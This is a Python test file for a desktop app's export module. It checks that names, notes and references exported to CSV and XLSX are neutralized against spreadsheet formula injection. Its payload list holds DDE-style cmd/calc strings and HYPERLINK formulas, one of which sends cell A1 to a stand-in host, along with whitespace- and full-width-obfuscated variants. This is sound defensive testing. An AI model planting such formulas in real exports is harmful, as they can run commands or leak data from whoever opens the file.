"""Formula injection in exports (issue 13, finding 3): the old guard skipped a value whose second
character was a digit, so ``=1+cmd|' /C calc'!A0`` and friends were exported raw, and the
register book wrote a live HYPERLINK formula from an applicant's name. Every payload below goes
through a real export (CSV and XLSX of requests, the register book) and comes out inert."""

from __future__ import annotations

import csv
import dataclasses
import io
from datetime import UTC, date, datetime

import pytest
from legal_helpers import entry_input, setup_office
from openpyxl import load_workbook

from desktop_app.core import exporter, legal_print
from desktop_app.core import legalization as legal
from desktop_app.core import requests as rq
from desktop_app.core.security import SYSTEM
from desktop_app.core.spreadsheet import csv_cell, is_formula_like

# The payloads first, then OWASP's list of starts, also hidden behind spaces.
PAYLOADS = [
    "=1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '+1+HYPERLINK("http://contoh.invalid/x","Klik")',
    '=2*HYPERLINK("http://contoh.invalid/x","Klik")',
    "@SUM(1+9)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://contoh.invalid/?d="&A1,"Budi")',
    "\t=1+1 cmd",
    "\r=1+1 cmd",
    "   =1+1 cmd",
    "\u00a0\u00a0-1+1 cmd",
    "\u3000@SUM(A1)",
    "\uff1d1+1 cmd",  # full-width equals sign
    "-",
    "+6281234567890",
]
HARMLESS = ["Budi Santoso", "Nur'aini", "a=b", "x+y", "Siti -", "1+1", "", "KK-261129-0003"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_every_payload_is_recognized_and_prefixed(payload):
    assert is_formula_like(payload)
    assert csv_cell(payload) == "'" + payload


@pytest.mark.parametrize("text", HARMLESS)
def test_ordinary_text_is_left_alone(text):
    assert not is_formula_like(text)
    assert csv_cell(text) == text


def _named(payload: str) -> str:
    """A name field needs a letter; numeric payloads get one at the end (still formula-like)."""
    return payload if any(c.isalpha() for c in payload) else payload + " Budi"


@pytest.fixture
def loaded(db):
    made = []
    for i, payload in enumerate(PAYLOADS):
        made.append(
            rq.create_request(
                db, SYSTEM, channel="web", service_code="KK", name=_named(payload),
                nik="3216014101900001", notes=payload, external_ref=f"{payload[:80]}#{i}",
                received_at=datetime(2026, 11, 28, 3, i, tzinfo=UTC),
            )
        )  # fmt: skip
    return made


def test_csv_export_neutralizes_name_notes_and_reference(db, loaded, tmp_path):
    out = tmp_path / "ekspor.csv"
    exporter.export_requests(db, SYSTEM, date(2026, 11, 28), date(2026, 11, 28), out)
    rows = list(csv.reader(io.StringIO(out.read_text("utf-8-sig")), delimiter=";"))
    header, body = rows[0], rows[1:]
    assert len(body) == len(PAYLOADS)
    checked = 0
    for row in body:
        for column in ("nama", "keterangan", "ref", "no_hp", "tiket"):
            cell = row[header.index(column)]
            if cell and is_formula_like(cell[1:] if cell.startswith("'") else cell):
                assert cell.startswith("'"), (column, cell)
                checked += 1
            assert not is_formula_like(cell), (column, cell)
    assert checked >= 3 * len(PAYLOADS) - 3  # names, notes and refs (notes are stripped)
    by_ticket = {row[header.index("tiket")]: row for row in body}
    for detail in loaded:
        row = by_ticket[detail.ticket]
        assert row[header.index("nama")] == csv_cell(detail.name)  # nothing else changed


def test_xlsx_export_keeps_the_text_and_has_no_formula(db, loaded, tmp_path):
    out = tmp_path / "ekspor.xlsx"
    exporter.export_requests(db, SYSTEM, date(2026, 11, 28), date(2026, 11, 28), out)
    sheet = load_workbook(out).active
    header = [c.value for c in sheet[1]]
    names = []
    for row in sheet.iter_rows(min_row=2):
        for cell in row:
            assert cell.data_type != "f", cell.value
            if isinstance(cell.value, str) and is_formula_like(cell.value):
                assert cell.quotePrefix, cell.value
        names.append(row[header.index("nama")].value)
    assert sorted(names) == sorted(d.name for d in loaded)  # shown exactly as typed


def test_register_book_xlsx_writes_no_hyperlink_formula(db, tmp_path):
    official_id = setup_office(db)
    payload = '=HYPERLINK("http://contoh.invalid/x","Rizky Pratama")'
    base = entry_input(official_id)
    legal.create_entry(
        db, SYSTEM, dataclasses.replace(base, applicant_name=payload),
        now=datetime(2026, 11, 28, 3, tzinfo=UTC),
    )  # fmt: skip
    out = legal_print.export_register(
        db, SYSTEM, date(2026, 11, 28), date(2026, 11, 28), tmp_path / "buku.xlsx"
    )
    sheet = load_workbook(out).active
    cells = [c for row in sheet.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    (name_cell,) = [c for c in cells if c.value == payload]
    assert name_cell.quotePrefix and name_cell.data_type == "s"
